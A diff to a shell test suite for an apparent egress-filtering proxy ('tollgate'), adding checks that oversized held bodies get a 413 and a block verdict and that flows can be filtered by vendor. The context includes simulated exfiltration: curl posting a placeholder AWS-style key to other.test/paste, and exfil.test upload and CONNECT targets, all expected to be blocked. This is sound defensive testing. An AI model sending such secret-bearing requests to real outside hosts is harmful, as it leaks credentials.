@@ -163,6 +163,12 @@ run_rc curl -sS "${X[@]}" "http://other.test/paste" -d 'key=AKIAZ7VRSQ5KJX4EXAMP
 expect_contains "$OUT" "no secrets to unknown destinations" "block on a data class"
 expect_eq "$(wc -l <"$TMP/upstream.log")" "$BEFORE" "block: nothing reached the upstream"
 
+# A body a class rule would have to see, larger than max_hold_bytes (1 MiB): refused, not passed
+# unchecked.
+head -c 1500000 /dev/zero | tr '\0' x >"$TMP/1500k"
+run_rc curl -sS "${X[@]}" "http://other.test/big" --data-binary @"$TMP/1500k" -o /dev/null -w '%{http_code}'
+expect_eq "$OUT" 413 "a body over max_hold_bytes under a class rule: 413"
+
 # alert: personal data to an unlisted destination passes, with an alert.
 run_rc curl -sS "${X[@]}" "http://other.test/contact" -d 'email=jane.doe@example.com' -w '\n%{http_code}'
 expect_contains "$OUT" "200" "alert: request passes"
@@ -246,6 +252,9 @@ expect_eq "$(verdict 'http://exfil.test/upload')" block "store: block (HTTP)"
 expect_eq "$(q "print([f['verdict'] for f in fl if f['kind']=='connect' and f['host']=='x.exfil.test'])")" "['block']" "store: block (CONNECT)"
 expect_eq "$(verdict 'http://other.test/paste')" block "store: block on a class"
 expect_eq "$(verdict 'http://other.test/contact')" alert "store: alert"
+expect_eq "$(verdict 'http://other.test/big')" block "store: oversized held body marked block"
+run_rc "$TOLLGATE" flows --store "$STORE" --vendor "Acme Analytics"
+expect_contains "$OUT" "vendor: Acme Analytics" "flows table shows the vendor"
 expect_eq "$(q "print(sorted(set(f.get('vendor','') for f in fl if 'analytics.test' in f['host'])))")" "['Acme Analytics']" "store: vendor on the flows"
 run_rc "$TOLLGATE" flows --store "$STORE" --vendor "Acme Analytics" --format json
 expect_eq "$(python3 -c 'import json,sys; fl=json.load(sys.stdin)["flows"]; print(len(fl) >= 8 and all(f["vendor"]=="Acme Analytics" for f in fl))' <<<"$OUT")" True "flows --vendor"
